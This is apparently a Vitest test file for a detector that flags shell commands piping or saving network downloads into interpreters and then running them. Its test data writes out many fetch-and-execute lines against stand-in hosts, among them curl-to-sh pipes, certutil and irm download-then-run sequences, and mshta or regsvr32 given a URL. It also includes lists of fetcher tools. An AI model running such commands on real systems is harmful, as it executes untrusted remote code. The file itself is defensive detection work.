import { describe, expect, it } from 'vitest'
import { downloadsRun } from '../../../src/checks/shell-downloads.ts'

const runs = (command: string) => downloadsRun(command).length > 0
const piped = (command: string) => runs(`curl http://x.example/i | ${command}`)
const words = (text: string) => text.trim().split(/\s+/)

describe('what runs a download that is piped into it', () => {
	it.each(words('sh bash zsh dash ksh mksh ash fish csh tcsh rbash yash posh nu elvish'))('the shell %s', (name) => {
		expect(
			[name, `${name} -s`, `${name} -x`, `${name} -o pipefail`, `${name} +x`, `${name} -c`].filter(piped),
		).toHaveLength(6)
		expect([`${name} i.sh`, `${name} -x i.sh`, `${name} -c 'cat'`, `${name} -ec true`].filter(piped)).toEqual([])
	})

	it.each(words('python python2 python3 pypy pypy3 py python3.12 python3.9'))('the interpreter %s', (name) => {
		expect([name, `${name} -`, `${name} -u`, `${name} -W ignore`, `${name} -X dev -`].filter(piped)).toHaveLength(5)
		expect(
			[`${name} -c 'pass'`, `${name} -m json.tool`, `${name} i.py`, `${name} -W ignore i.py`].filter(piped),
		).toEqual([])
	})

	it.each(words('node nodejs'))('the interpreter %s', (name) => {
		expect([name, `${name} -`, `${name} -r ./a.js`, `${name} --import a`].filter(piped)).toHaveLength(4)
		const code = words('-e -p -pe --eval --print').map((option) => `${name} ${option} '1'`)
		expect([...code, `${name} i.mjs`, `${name} --require ./a.js i.js`].filter(piped)).toEqual([])
	})

	it.each(words('bun deno tsx ts-node'))('the interpreter %s, where it is told to by a dash', (name) => {
		expect([`${name} -`, `${name} run -`].filter(piped)).toHaveLength(2)
		expect([name, `${name} run i.ts`, `${name} -e 1`].filter(piped)).toEqual([])
	})

	it.each(words('perl ruby lua luajit'))('the interpreter %s', (name) => {
		expect([name, `${name} -`, `${name} -M5`].filter(piped)).toHaveLength(3)
		expect([`${name} -e '1'`, `${name} -ne '1'`, `${name} i.pl`].filter(piped)).toEqual([])
	})

	it.each([
		['php', ['-d a=b', '-z a'], ["-r '1'", '-B 1', 'i.php', '-d a=b i.php']],
		['rscript', [], ["-e '1'", 'i.r']],
		['osascript', ['-l JavaScript', '-s s'], ["-e '1'", '-l JavaScript i.js', '-lJavaScript i.js']],
		['tclsh', [], ['i.tcl']],
		[
			'pwsh',
			['-c -', '-ExecutionPolicy Bypass', '-w hidden -', '-v 2'],
			["-c 'ls'", '-EncodedCommand x', '-ep x i.ps1'],
		],
		['powershell', ['-Command -', '-WindowStyle hidden'], ["-Command 'ls'", 'i.ps1', '-version 2 i.ps1']],
		['cmd', [], ['/c dir', '/K dir', '/cdir', 'i.bat']],
		['at', ['-q b', '-t 1'], ['now']],
		['batch', [], ['i.sh']],
		['parallel', ['-j 4', '-a list', '-I x'], ['echo']],
	])('the interpreter %s', (name, read, given) => {
		expect([name, ...read.map((options) => `${name} ${options}`)].filter((one) => !piped(one))).toEqual([])
		expect(given.map((options) => `${name} ${options}`).filter(piped)).toEqual([])
	})

	it('a shell that another program starts', () => {
		const carriers = [
			'sudo',
			'sudo -u root',
			'sudo -g a -h b',
			'doas -u root',
			'env A=1 -u B',
			'command',
			'builtin',
			'exec -a name',
			'nohup',
			'setsid',
			'nice -n 5',
			'ionice -c 2 -n 0',
			'chrt 5',
			'time -f %e',
			'timeout -s KILL 5',
			'timeout -k 1 5',
			'timeout -k5s 5',
			'stdbuf -o0 -i 0',
			'unbuffer',
			'busybox',
			'toybox',
			'chroot /mnt',
			'flock -w 5 /tmp/lock',
			'watch -n 5',
			'caffeinate -t 5',
		]
		expect(carriers.filter((carrier) => !piped(`${carrier} sh`))).toEqual([])
		expect(carriers.filter((carrier) => piped(`${carrier} cat`))).toEqual([])
	})

	it('a shell far away or in a box', () => {
		const far = words('ssh docker podman nerdctl kubectl lxc nsenter wsl su runuser script')
		expect(far.filter((name) => !piped(`${name} box sh`))).toEqual([])
		expect(far.filter((name) => piped(`${name} box sh -c 'ls'`))).toEqual([])
		expect([`ssh host 'bash -s'`, `ssh host "cat | sh"`].filter(piped)).toHaveLength(2)
		expect(["ssh host 'cat'", 'docker load', 'ssh host'].filter(piped)).toEqual([])
	})

	it('what evaluates it, or reads it as a file', () => {
		const readers = [
			'iex',
			'Invoke-Expression',
			'. /dev/stdin',
			'source /dev/fd/0',
			'make -f -',
			'crontab -',
			'xargs eval',
		]
		expect(readers.filter((one) => !piped(one))).toEqual([])
		expect(['make -f Makefile', 'crontab -l', '. ./env', 'xargs rm', "xargs -I{} sh -c 'echo'"].filter(piped)).toEqual(
			[],
		)
		expect(["xargs -I X sh -c 'X'", "xargs -IX sh -c 'X'", "xargs sh -c '{}'"].filter(piped)).toHaveLength(3)
	})

	it('code that runs what comes in', () => {
		const inner = ['sh', 'cat | sh', 'cat; bash -s', 'sudo zsh', 'a && ksh', 'eval "$(cat)"', 'sh -']
		expect(inner.filter((code) => !piped(`sh -c '${code}'`))).toEqual([])
		expect(['cat', 'flash', 'echo sh', 'sh i.sh', 'eval "$x"'].filter((code) => piped(`sh -c '${code}'`))).toEqual([])
	})

	it('code behind several options in one word', () => {
		expect([`bash -ce 'cat | sh'`, `sh -xc sh`, `bash -ceu bash`].filter(piped)).toHaveLength(3)
		expect([`bash -ce cat`, `sh -xc 'sh i.sh'`].filter(piped)).toEqual([])
	})

	it('the program whatever its folder, its ending and its case, also in a sentence', () => {
		const spelled = [
			'/usr/local/bin/bash',
			'BASH',
			'bash.exe',
			'C:\\\\bin\\\\powershell.EXE',
			'bash.',
			'bash,',
			'**bash**',
		]
		expect(spelled.filter((name) => !piped(name))).toEqual([])
		expect(['bashful', 'flash', 'sh.txt', 'mybash'].filter(piped)).toEqual([])
		for (const word of words('and or then to in as which from at once again – — …'))
			expect([word, piped(`sh ${word} read on`)]).toEqual([word, true])
	})
})

describe('what fetches', () => {
	const fetchers =
		words(`curl curlie wget wget2 aria2c axel fetch ftp http https xh xhs lynx links elinks w3m lwp-request
		lwp-download get certutil bitsadmin iwr irm invoke-webrequest invoke-restmethod start-bitstransfer`)

	it.each(fetchers)('%s', (name) => {
		expect(runs(`${name} http://x.example/i | sh`)).toBe(true)
		expect(runs(`${name} http://x.example/i | cat`)).toBe(false)
	})

	it.each(words('deno mshta msiexec regsvr32 rundll32'))('%s, which runs an address at once', (name) => {
		expect([runs(`${name} http://x.example/i`), runs(`${name} ./i`)]).toEqual([true, false])
	})

	it('takes the value of an option for no address', () => {
		const harmless = ['-H http://a.example', '-x http://a.example', '--proxy http://a.example', '-e http://a.example']
		expect(harmless.filter((option) => runs(`curl ${option} http://localhost/i | sh`))).toEqual([])
		expect(runs('wget --referer http://a.example http://localhost/i -O - | sh')).toBe(false)
		expect(runs('curl --silent http://a.example | sh')).toBe(true)
	})

	it('into a file that is run then, whatever the file is called', () => {
		for (const command of [
			'curl http://x.example/i.sh --output a; sh a',
			'curl http://x.example/i.sh --output=a; sh ./a',
			'curl -sSLo a http://x.example/i.sh; sh a',
			'curl --remote-name http://x.example/i.sh; sh i.sh',
			'curl -sO http://x.example/d/i.sh?v=1; sh i.sh',
			'wget -qOa http://x.example/i.sh; sh a',
			'wget --output-document=a http://x.example/i.sh; sh ././a',
			'axel -o a http://x.example/i.sh; sh a',
			'aria2c --out=a http://x.example/i.sh; sh a',
			'irm http://x.example/i.ps1 -OutFile a.ps1; ./a.ps1',
			'certutil -urlcache -f http://x.example/i.exe a.exe; a.exe',
		])
			expect([command, runs(command)]).toEqual([command, true])
		expect(runs('curl http://x.example/i.sh --output a; sh b')).toBe(false)
		expect(runs('curl http://x.example/i.sh --output a; sh b/a')).toBe(false)
	})
})

describe('where a program stands in its command', () => {
	it.each([
		'A=1 sh',
		'A=1 B+=2 sh',
		'A=1 sudo -u root sh',
		'sudo A=1 sh',
		'env -i A=1 sh',
		'python3.12',
		'/usr/bin/python3.9 -',
		'php -d a-c=1 -',
		'osascript -s a -',
	])('it runs what is piped into it: %s', (command) => {
		expect(piped(command)).toBe(true)
	})

	it.each(['echo A=1', 'sudo -u', 'env', 'A=1', 'python3.123 i.py', 'osascript x-e i.js'])(
		'it runs nothing of it: %s',
		(command) => {
			expect(piped(command)).toBe(false)
		},
	)

	it('a file is run behind assignments and what starts it', () => {
		const starts = ['A=1 ./x', 'A=1 B=2 sudo ./x', 'A=1 . x', 'env A=1 ./x', 'sudo -u root ./x']
		expect(starts.filter((command) => !runs(`curl -o x http://h.example/i\n${command}`))).toEqual([])
	})
})
